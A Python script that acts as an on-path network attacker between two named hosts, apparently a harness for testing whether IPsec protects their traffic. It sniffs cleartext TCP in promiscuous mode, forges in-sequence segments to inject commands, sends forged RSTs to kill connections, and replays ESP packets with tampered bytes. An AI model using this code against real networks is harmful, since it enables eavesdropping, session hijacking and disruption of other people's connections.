r"""An attacker on the wire between two hosts: sees every frame and sends what it likes.

    wire_tap.py CLIENT SERVER PORT

Standard input has commands, one a line; standard output has one answer to each, a line of JSON:

    seen         what client and server have sent at this port in the clear, and how many packets of ESP
                 went by
    inject TEXT  sends TEXT, with \r\n for ends of lines, to the server within the client's last
                 connection
    reset        ends the client's last connection by a RST to each side

`inject` and `reset` also send again all packets of ESP that went by, as they were and with their last
byte changed. Where there is nothing but ESP, that is all they can do.
"""

import json
import select
import socket
import struct
import sys

CLIENT, SERVER = (socket.inet_aton(name) for name in sys.argv[1:3])
PORT = int(sys.argv[3])
FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16
TCP, ESP = 6, 50

wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
SO_RCVBUFFORCE, PACKET_ADD_MEMBERSHIP, PACKET_MR_PROMISC = 33, 1, 1
wire.setsockopt(socket.SOL_SOCKET, SO_RCVBUFFORCE, 1 << 24)
wire.bind(("eth0", 0))
# Until this process ends.
promiscuous = struct.pack("iHH8s", socket.if_nametoindex("eth0"), PACKET_MR_PROMISC, 0, b"")
wire.setsockopt(263, PACKET_ADD_MEMBERSHIP, promiscuous)

sent = {CLIENT: b"", SERVER: b""}
esp = []
# Of the last connection: addresses of the link, the client's port, what each side sends next.
last = {}


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def forge(source, flags, data=b""):
    """A frame of the last connection as `source` would send it."""
    target = SERVER if source == CLIENT else CLIENT
    ports = (last["port"], PORT) if source == CLIENT else (PORT, last["port"])
    numbers = (last[source], last[target])
    head = struct.pack("!HHIIBBHHH", *ports, *numbers, 5 << 4, flags, 500, 0, 0)
    pseudo = source + target + struct.pack("!BBH", 0, TCP, len(head) + len(data))
    tcp = head[:16] + struct.pack("!H", checksum(pseudo + head + data)) + head[18:] + data
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, TCP, 0) + source + target
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return last["links", source] + ip + tcp


def see(frame):
    if len(frame) < 34 or frame[12:14] != b"\x08\x00":
        return
    source, target = frame[26:30], frame[30:34]
    if {source, target} != {CLIENT, SERVER}:
        return
    packet = frame[14 : 14 + struct.unpack("!H", frame[16:18])[0]]
    if packet[9] == ESP:
        esp.append(frame)
        return
    tcp = packet[(packet[0] & 15) * 4 :]
    if packet[9] != TCP or len(tcp) < 20:
        return
    ports = struct.unpack("!HH", tcp[:4])
    if (ports[1] if source == CLIENT else ports[0]) != PORT:
        return
    data = tcp[(tcp[12] >> 4) * 4 :]
    sent[source] += data
    number = struct.unpack("!I", tcp[4:8])[0]
    last["port"] = ports[0] if source == CLIENT else ports[1]
    last[source] = (number + len(data) + bool(tcp[13] & (SYN | FIN))) & 0xFFFFFFFF
    last["links", source] = frame[:14]


def is_known():
    return {CLIENT, SERVER, ("links", CLIENT), ("links", SERVER)} <= set(last)


def again():
    for frame in list(esp):
        wire.send(frame)
        wire.send(frame[:-1] + bytes([frame[-1] ^ 1]))


def answer(line):
    word, _, text = line.partition(" ")
    if word == "seen":
        texts = {"client": sent[CLIENT], "server": sent[SERVER]}
        texts = {name: text.decode(errors="replace") for name, text in texts.items()}
        return {**texts, "esp": len(esp)}
    again()
    if is_known():
        if word == "inject":
            data = text.replace("\\r\\n", "\r\n").encode() + b"\r\n"
            wire.send(forge(CLIENT, PSH | ACK, data))
        else:
            wire.send(forge(CLIENT, RST | ACK))
            wire.send(forge(SERVER, RST | ACK))
    return {"forged": is_known(), "again": len(esp)}


print("ready", flush=True)
pending = b""
while True:
    readable, _, _ = select.select([wire, 0], [], [])
    if wire in readable:
        frame, place = wire.recvfrom(65536)
        # Not what this socket sends itself.
        if place[2] != socket.PACKET_OUTGOING:
            see(frame)
        continue
    read = sys.stdin.buffer.raw.read(4096)
    if not read:
        break
    pending += read
    while b"\n" in pending:
        line, _, pending = pending.partition(b"\n")
        print(json.dumps(answer(line.decode())), flush=True)
